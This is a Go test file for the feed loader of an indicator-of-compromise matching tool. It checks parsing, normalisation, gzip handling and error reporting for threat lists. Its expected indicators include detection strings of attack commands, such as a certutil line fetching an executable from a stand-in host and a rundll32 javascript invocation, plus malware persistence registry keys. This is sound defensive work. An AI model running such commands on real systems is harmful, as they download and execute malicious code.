package loader

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/iocmatch/iocmatch/indicator"
)

var listsDir = filepath.Join("..", "testdata", "lists")

func TestLoadDir(t *testing.T) {
	res, err := Load(listsDir, Options{})
	require.NoError(t, err)
	assert.Equal(t, 10, res.Files)

	perType := map[indicator.Type]int{}
	perSource := map[string]int{}
	for _, ind := range res.Indicators {
		perType[ind.Type]++
		perSource[ind.Source]++
		// values are canonical
		again, err := indicator.New(ind.Type, ind.Value)
		require.NoError(t, err)
		assert.Equal(t, ind.Value, again.Value)
	}
	assert.Equal(t, map[indicator.Type]int{
		indicator.IPv4: 7, indicator.IPv6: 2, indicator.CIDR: 4,
		indicator.Domain: 10, indicator.URL: 11, indicator.Email: 5,
		indicator.MD5: 2, indicator.SHA1: 2, indicator.SHA256: 2, indicator.SHA512: 1,
		indicator.Filename: 6, indicator.RegKey: 5, indicator.Mutex: 5,
		indicator.UserAgent: 5, indicator.String: 4,
	}, perType)
	assert.Equal(t, map[string]int{
		"domains": 10, "emails": 5, "filenames": 6, "hashes": 7, "ips": 13,
		"mutexes": 5, "regkeys": 5, "strings": 4, "urls": 11, "useragents": 5,
	}, perSource)

	got := map[string]bool{}
	for _, ind := range res.Indicators {
		got[ind.Source+" "+ind.String()] = true
	}
	for _, want := range []string{
		"domains domain:login-microsoft-verify.example.com", // [.]
		"domains domain:secure-paypa1-account.example.org",  // (.)
		"domains domain:invoice-download.example",           // upper case, trailing dot
		"domains domain:tracker.bad.example",                // "*."
		"domains domain:cdn.jquery-updates.top",             // inline comment
		"domains domain:telemetry-win-update.xyz",           // port dropped
		"domains domain:dl.dropbox-files.ru",                // [dot]
		"ips ipv4:198.51.100.23",                            // "IP<TAB>count"
		"ips ipv4:203.0.113.77",                             // "IP count"
		"ips cidr:10.0.0.0/8",                               // masked
		"ips ipv4:192.0.2.1",                                // /32
		"ips ipv6:2001:db8::2",
		"ips cidr:2001:db8:dead:beef::/64",
		"ips ipv4:192.0.2.200", // IPv4-mapped
		"ips ipv4:198.51.100.99",
		"urls url:http://evil.example/gate.php",
		"urls url:https://login-microsoft-verify.example.com/owa/auth.php?client=outlook&lang=en",
		"urls url:https://cdn.bad.example/Payload.BIN",
		"urls url:https://update.example.org/download?id=42",
		"urls url:http://evil-cdn.example/js/loader.js?v=3",
		"urls url:http://203.0.113.5/panel/login.php",
		"urls url:http://files.example.net/a/b/c.exe",
		"urls url:https://[2001:db8::5]:8443/api/v1/beacon",
		"urls url:http://phish.example/secure/",
		"hashes md5:44d88612fea8a8f36de82e1278abb02f",
		"hashes sha1:3395856ce81f2b7382dee72602f798b642f14140",
		"hashes sha256:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
		"emails email:security-alert@login-microsoft-verify.example.com",
		"emails email:hr.department@payroll-update.example",
		"emails email:ceo.office@invoice-portal.example.net",
		"filenames filename:Update Installer.msi",
		"filenames filename:report #2.lnk",
		`regkeys regkey:HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\WinUpdater`,
		`regkeys regkey:HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce\svc`,
		`regkeys regkey:HKCU\Software\Classes\ms-settings\shell\open\command`,
		`regkeys regkey:HKCR\CLSID\{0A29FF9E-7F9C-4437-8B11-F424491E3931}\InprocServer32`,
		`mutexes mutex:Global\MsWinZonesCacheCounterMutexA`,
		"useragents useragent:Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1) #1",
		"useragents useragent:python-requests/2.0 BotClient",
		`strings string:  rundll32.exe javascript:"\..\mshtml,RunHTMLApplication`,
		"strings string:certutil -urlcache -split -f http://evil.example/a.exe",
	} {
		assert.True(t, got[want], "missing %s", want)
	}

	p := func(file string, line int) string {
		return filepath.Join(listsDir, file) + ":" + strconv.Itoa(line) + ": "
	}
	assert.Equal(t, []string{
		p("domains.txt", 15) + `indicator: "mail..evil.example": ` + cannotInfer,
		p("emails.txt", 8) + `indicator: "broken@": ` + cannotInfer,
		p("hashes.txt", 13) + `indicator: "d41d8cd98f00b204e9800998ecf8427": ` + cannotInfer,
		p("ips.txt", 23) + `indicator: "300.1.2.3": ` + cannotInfer,
		p("urls.txt", 14) + `indicator: invalid url "http://evil..example/x": not a URL with a valid host (and port)`,
	}, problemStrs(res.Problems))
	assert.Equal(t, map[string]int{ReasonCannotInfer: 4, ReasonInvalidValue: 1}, res.Skipped)

	// files are read in sorted order
	var sources []string
	for _, ind := range res.Indicators {
		if len(sources) == 0 || sources[len(sources)-1] != ind.Source {
			sources = append(sources, ind.Source)
		}
	}
	assert.Equal(t, []string{"domains", "emails", "filenames", "hashes", "ips", "mutexes", "regkeys", "strings", "urls", "useragents"}, sources)
}

func TestLoadFile(t *testing.T) {
	path := filepath.Join(listsDir, "regkeys.txt")
	res, err := Load(path, Options{})
	require.NoError(t, err)
	assert.Equal(t, 1, res.Files)
	assert.Equal(t, []string{
		`regkey:HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\WinUpdater`,
		`regkey:HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce\svc`,
		`regkey:HKCU\Software\Classes\ms-settings\shell\open\command`,
		`regkey:HKCR\CLSID\{0A29FF9E-7F9C-4437-8B11-F424491E3931}\InprocServer32`,
		`regkey:HKLM\SYSTEM\CurrentControlSet\Services\EvilSvc`,
	}, strs(res.Indicators))
	assert.Empty(t, res.Problems)
	assert.Nil(t, res.Skipped)
	for _, ind := range res.Indicators {
		assert.Equal(t, "regkeys", ind.Source)
	}

	res, err = Load(path, Options{Source: "sandbox"})
	require.NoError(t, err)
	for _, ind := range res.Indicators {
		assert.Equal(t, "sandbox", ind.Source)
	}
}

func TestLoadStrict(t *testing.T) {
	res, err := Load(listsDir, Options{Strict: true})
	var p *Problem
	require.ErrorAs(t, err, &p)
	assert.Equal(t, filepath.Join(listsDir, "domains.txt")+`:15: indicator: "mail..evil.example": `+cannotInfer, err.Error())
	assert.Equal(t, 1, res.Files)
	assert.Len(t, res.Indicators, 9)

	// the same on one file
	_, err = Load(filepath.Join(listsDir, "urls.txt"), Options{Strict: true})
	require.ErrorAs(t, err, &p)
	assert.Equal(t, 14, p.Line)
	assert.Equal(t, ReasonInvalidValue, p.Reason)

	// a good file gives no error
	_, err = Load(filepath.Join(listsDir, "mutexes.txt"), Options{Strict: true})
	require.NoError(t, err)
}

func TestLoadMissing(t *testing.T) {
	path := filepath.Join(t.TempDir(), "no-such-feed.txt")
	res, err := Load(path, Options{})
	require.Error(t, err)
	assert.ErrorIs(t, err, fs.ErrNotExist)
	assert.EqualError(t, err, `loader: "`+path+`": no such file or directory`)
	assert.Empty(t, res.Indicators)
	assert.Zero(t, res.Files)
}

func TestLoadEmptyDir(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "sub", "subsub"), 0o755))
	res, err := Load(dir, Options{})
	require.NoError(t, err)
	assert.Empty(t, res.Indicators)
	assert.Empty(t, res.Problems)
	assert.Zero(t, res.Files)
}

func TestLoadTree(t *testing.T) {
	dir := t.TempDir()
	write := func(name, content string) {
		t.Helper()
		p := filepath.Join(dir, filepath.FromSlash(name))
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(content), 0o644))
	}
	write("b.txt", "b.example\n")
	write("a/z.list", "z.example\n")
	write("a/y/x.lst", "x.example\n")
	write("c.txt.gz", gzipped(t, "c.example\n"))
	write(".hidden.txt", "hidden.example\n")
	write(".git/config", "git.example\n")
	write("a/.cache/f.txt", "cache.example\n")
	write("feed", "bad..example\n")
	require.NoError(t, os.Symlink("b.txt", filepath.Join(dir, "link.txt")))
	require.NoError(t, os.Symlink("a", filepath.Join(dir, "linkdir")))
	require.NoError(t, os.Symlink("nowhere", filepath.Join(dir, "broken.txt")))

	res, err := Load(dir, Options{})
	require.NoError(t, err)
	var got []string
	for _, ind := range res.Indicators {
		got = append(got, ind.Source+" "+ind.Value)
	}
	assert.Equal(t, []string{
		"x x.example",
		"z z.example",
		"b b.example",
		"c c.example",
		"link b.example",
	}, got)
	assert.Equal(t, 6, res.Files)
	assert.Equal(t, []string{filepath.Join(dir, "feed") + `:1: indicator: "bad..example": ` + cannotInfer}, problemStrs(res.Problems))

	// a hidden file named explicitly is read
	res, err = Load(filepath.Join(dir, ".hidden.txt"), Options{})
	require.NoError(t, err)
	assert.Equal(t, []string{"domain:hidden.example"}, strs(res.Indicators))
	assert.Equal(t, ".hidden", res.Indicators[0].Source)

	// a symbolic link to a directory given as the path is followed
	res, err = Load(filepath.Join(dir, "linkdir"), Options{})
	require.NoError(t, err)
	assert.Equal(t, []string{"domain:x.example", "domain:z.example"}, strs(res.Indicators))
	res, err = Load(filepath.Join(dir, "linkdir")+"/", Options{})
	require.NoError(t, err)
	assert.Equal(t, []string{"domain:x.example", "domain:z.example"}, strs(res.Indicators))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a", "bad"), []byte("bad..example\n"), 0o644))
	res, err = Load(filepath.Join(dir, "linkdir"), Options{})
	require.NoError(t, err)
	assert.Equal(t, []string{filepath.Join(dir, "linkdir", "bad") + `:1: indicator: "bad..example": ` + cannotInfer}, problemStrs(res.Problems))
}

// gzipped returns s compressed with gzip.
func gzipped(t testing.TB, s string) string {
	t.Helper()
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	_, err := zw.Write([]byte(s))
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	return b.String()
}

func TestLoadGzip(t *testing.T) {
	dir := t.TempDir()
	// by content, whatever the name; a .gz that is not gzip is read as is
	for name, content := range map[string]string{
		"a.gz":     gzipped(t, "a.example\n"),
		"b.txt":    gzipped(t, "b.example\n"),
		"c.txt.gz": "c.example\n",
		"d.gz":     gzipped(t, gzipped(t, "d.example\n")), // once only
	} {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644))
	}
	res, err := Load(dir, Options{})
	require.NoError(t, err)
	assert.Equal(t, []string{"domain:a.example", "domain:b.example", "domain:c.example"}, strs(res.Indicators))
	require.Len(t, res.PerFile, 4)
	assert.Equal(t, FileStats{Path: filepath.Join(dir, "a.gz"), Format: FormatList, Indicators: 1}, res.PerFile[0])
	// gzip inside gzip is decompressed once: a binary file, not read
	assert.Equal(t, FileStats{Path: filepath.Join(dir, "d.gz"), Format: FormatUnknown, Skipped: 1}, res.PerFile[3])
	assert.Equal(t, map[string]int{ReasonBinary: 1}, res.Skipped)

	// a truncated or corrupt gzip stream is a problem of the file (with
	// Strict, the error); what was read before it is kept
	full := gzipped(t, strings.Repeat("e.example\n", 1000))
	p := filepath.Join(dir, "e.gz")
	for _, data := range []string{full[:len(full)/2], full[:len(full)-4] + "xxxx", "\x1f\x8b"} {
		require.NoError(t, os.WriteFile(p, []byte(data), 0o644))
		res, err = Load(p, Options{})
		require.NoError(t, err)
		require.Len(t, res.Problems, 1)
		assert.Equal(t, ReasonMalformed, res.Problems[0].Reason)
		assert.Contains(t, res.Problems[0].Error(), p+": gzip: ")
		assert.Equal(t, 1, res.Files)
		_, err = Load(p, Options{Strict: true})
		var prob *Problem
		require.ErrorAs(t, err, &prob)
	}
	var big strings.Builder
	for i := range 50000 {
		fmt.Fprintf(&big, "h%d.example\n", i*7919%100003)
	}
	full = gzipped(t, big.String())
	require.NoError(t, os.WriteFile(p, []byte(full[:len(full)/2]), 0o644))
	res, err = Load(p, Options{})
	require.NoError(t, err)
	assert.Positive(t, len(res.Indicators), "lines before the truncation are kept")
}

func TestLoadUnreadable(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("root can read anything")
	}
	dir := t.TempDir()
	sub := filepath.Join(dir, "locked")
	require.NoError(t, os.Mkdir(sub, 0o000))
	t.Cleanup(func() { _ = os.Chmod(sub, 0o755) })
	_, err := Load(dir, Options{})
	require.Error(t, err)
	assert.Contains(t, err.Error(), `"`+sub+`"`)
}

func TestSourceName(t *testing.T) {
	for path, want := range map[string]string{
		"feeds/c2-domains.txt":     "c2-domains",
		"/var/lib/feeds/ipsum.txt": "ipsum",
		"ips.txt.gz":               "ips",
		"ips.TXT.GZ":               "ips",
		"feed.gz":                  "feed",
		"feed":                     "feed",
		"abuse.ch.urlhaus.csv":     "abuse.ch.urlhaus",
		".hidden":                  ".hidden",
		".gz":                      ".gz",
		"dir/":                     "dir",
		"":                         "",
	} {
		assert.Equal(t, want, SourceName(path), path)
	}
}

func TestLoadSkipsMISPFeedHashes(t *testing.T) {
	dir := t.TempDir()
	hashes := "44d88612fea8a8f36de82e1278abb02f,56bf399d-c46c-4fdb-a9cf-d9bb02de0b81\n"
	require.NoError(t, os.WriteFile(filepath.Join(dir, "hashes.csv"), []byte(hashes), 0o644))
	res, err := Load(dir, Options{Format: FormatList})
	require.NoError(t, err)
	assert.Equal(t, 1, res.Files, "without a manifest, hashes.csv is a feed like any other")

	require.NoError(t, os.WriteFile(filepath.Join(dir, "manifest.json"), []byte("{}"), 0o644))
	res, err = Load(dir, Options{Format: FormatList})
	require.NoError(t, err)
	require.Equal(t, 1, res.Files)
	assert.Equal(t, filepath.Join(dir, "manifest.json"), res.PerFile[0].Path)
}

// TestLoadProgress: Options.Progress is called after each file with the
// counts of the Load so far.
func TestLoadProgress(t *testing.T) {
	dir := t.TempDir()
	a, b := filepath.Join(dir, "a.txt"), filepath.Join(dir, "b.txt")
	require.NoError(t, os.WriteFile(a, []byte("evil.example\n198.51.100.7\n"), 0o644))
	require.NoError(t, os.WriteFile(b, []byte("bad.example\nnot-an-ioc\n"), 0o644))
	var got []Progress
	res, err := Load(dir, Options{Progress: func(p Progress) { got = append(got, p) }})
	require.NoError(t, err)
	assert.Equal(t, []Progress{{Path: a, Files: 1, Indicators: 2}, {Path: b, Files: 2, Indicators: 3}}, got)
	assert.Len(t, res.Indicators, 3)

	got = nil
	_, err = Load(b, Options{Progress: func(p Progress) { got = append(got, p) }})
	require.NoError(t, err)
	assert.Equal(t, []Progress{{Path: b, Files: 1, Indicators: 1}}, got, "a single file is reported too")
}
